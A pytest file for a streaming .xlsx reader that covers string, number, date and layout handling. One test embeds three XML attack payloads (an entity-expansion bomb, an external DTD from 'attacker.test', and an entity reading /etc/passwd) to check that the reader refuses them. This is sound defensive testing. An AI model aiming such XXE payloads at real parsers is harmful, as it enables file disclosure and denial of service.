"""The streaming .xlsx reader: what Excel and WPS write (shared, rich and inline strings, phonetic guides, dates
by format, 1904 dates, sparse rows) read as text; any document type declaration refused."""
from __future__ import annotations

import io
import zipfile

import pytest

from app.core.spreadsheets import SpreadsheetRejected, read_upload

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def workbook(sheet_rows: str, *, strings: str = "", styles: str = "", date1904: bool = False,
             sheet_path: str = "worksheets/data.xml", prefix: str = "") -> bytes:
    """A minimal workbook whose only sheet lives at `sheet_path` (found through the relationships)."""
    p = f"{prefix}:" if prefix else ""
    ns = f'xmlns{":" + prefix if prefix else ""}="{MAIN}"'
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "xl/workbook.xml": (f'<{p}workbook {ns} xmlns:r="{RELS}">'
                            + (f'<{p}workbookPr date1904="1"/>' if date1904 else "")
                            + f'<{p}sheets><{p}sheet name="Data" sheetId="1" r:id="rId7"/></{p}sheets></{p}workbook>'),
        "xl/_rels/workbook.xml.rels": (f'<Relationships xmlns="{PKG_RELS}"><Relationship Id="rId7" '
                                       f'Type="{RELS}/worksheet" Target="{sheet_path}"/></Relationships>'),
        f"xl/{sheet_path}": f"<{p}worksheet {ns}><{p}sheetData>{sheet_rows}</{p}sheetData></{p}worksheet>",
    }
    if strings:
        parts["xl/sharedStrings.xml"] = f'<sst xmlns="{MAIN}">{strings}</sst>'
    if styles:
        parts["xl/styles.xml"] = f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def header(width: int) -> str:
    letters = "ABCDEFG"
    return '<row r="1">' + "".join(f'<c r="{letters[i]}1" t="inlineStr"><is><t>h{i}</t></is></c>'
                                   for i in range(width)) + "</row>"


def cells(data: bytes) -> list[list[str]]:
    sheet = read_upload(data, "book.xlsx")
    return [sheet.header, *sheet.frame.values.tolist()]


def test_shared_rich_and_inline_strings_without_phonetic_guides():
    strings = ('<si><t>工号</t></si><si><r><t>王</t></r><r><t xml:space="preserve">芳 </t></r>'
               '<rPh sb="0" eb="1"><t>ワン</t></rPh></si>')
    rows = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>name</t></is></c></row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>007</t></is></c><c r="B2" t="s"><v>1</v></c></row>')
    assert cells(workbook(rows, strings=strings)) == [["工号", "name"], ["007", "王芳"]]


def test_numbers_booleans_errors_and_formula_results():
    rows = (header(7) + '<row r="2"><c r="A2"><v>16</v></c><c r="B2"><v>3.5</v></c><c r="C2"><v>1.3800138E+10</v></c>'
            '<c r="D2" t="b"><v>1</v></c><c r="E2" t="e"><v>#N/A</v></c>'
            '<c r="F2" t="str"><f>A2&amp;"x"</f><v>16x</v></c><c r="G2"><f>A2*2</f><v>32</v></c></row>')
    assert cells(workbook(rows))[1] == ["16", "3.5", "13800138000", "TRUE", "#N/A", "16x", "32"]


def test_dates_by_builtin_custom_and_chinese_formats():
    chinese = "yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"
    styles = (f'<numFmts count="1"><numFmt numFmtId="176" formatCode="{chinese}"/></numFmts>'
              '<cellStyleXfs count="1"><xf numFmtId="14"/></cellStyleXfs>'
              '<cellXfs count="5"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="176"/><xf numFmtId="31"/>'
              '<xf numFmtId="22"/></cellXfs>')
    rows = (header(6) + '<row r="2"><c r="A2"><v>45536</v></c><c r="B2" s="1"><v>45536</v></c>'
            '<c r="C2" s="2"><v>45537</v></c><c r="D2" s="3"><v>45538</v></c><c r="E2" s="4"><v>45536.5</v></c>'
            '<c r="F2" t="d"><v>2026-09-01T00:00:00</v></c></row>')
    assert cells(workbook(rows, styles=styles))[1] == [
        "45536", "2024-09-01", "2024-09-02", "2024-09-03", "2024-09-01 12:00:00", "2026-09-01"]


def test_1904_dates():
    styles = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
    rows = ('<row r="1"><c r="A1" t="inlineStr"><is><t>h</t></is></c></row>'
            '<row r="2"><c r="A2" s="1"><v>1</v></c></row>')
    assert cells(workbook(rows, styles=styles, date1904=True))[1] == ["1904-01-02"]


def test_sparse_rows_and_cells_keep_excels_numbers():
    rows = ('<row r="3"><c r="A3" t="inlineStr"><is><t>a</t></is></c><c r="C3" t="inlineStr"><is><t>c</t></is></c>'
            '</row><row r="7"><c r="C7"><v>1</v></c></row>')
    sheet = read_upload(workbook(rows), "book.xlsx")
    assert sheet.header_row == 3 and sheet.header == ["a", "", "c"]
    assert sheet.frame.index.tolist() == [7] and sheet.frame.values.tolist() == [["", "", "1"]]


def test_prefixed_namespaces_and_absolute_targets():
    rows = '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>h</x:t></x:is></x:c></x:row>'
    data = workbook(rows, prefix="x", sheet_path="/xl/worksheets/sheet9.xml".lstrip("/").removeprefix("xl/"))
    assert cells(data) == [["h"]]


@pytest.mark.parametrize("declaration", [
    '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE worksheet SYSTEM "http://attacker.test/evil.dtd">',
    '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
])
def test_any_document_type_declaration_is_refused(declaration):
    data = workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>h</t></is></c></row>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/data.xml":
                content = declaration.encode() + content
            target.writestr(item.filename, content)
    with pytest.raises(SpreadsheetRejected, match="not allowed"):
        read_upload(out.getvalue(), "book.xlsx")


def test_a_missing_sheet_or_broken_xml_is_a_damaged_workbook():
    data = workbook('<row r="1"><c r="A1"><v>1</v></row>')  # unclosed <c>
    with pytest.raises(SpreadsheetRejected, match="damaged"):
        read_upload(data, "book.xlsx")


def test_row_limit_counts_rows_present():
    from app.core.spreadsheets import ReadLimits

    rows = "".join(f'<row r="{n * 10}"><c r="A{n * 10}"><v>{n}</v></c></row>' for n in range(1, 8))
    with pytest.raises(SpreadsheetRejected, match="more than 3 rows"):
        read_upload(workbook(rows), "book.xlsx", ReadLimits(max_rows=3))
    assert len(read_upload(workbook(rows), "book.xlsx", ReadLimits(max_rows=6))) == 6
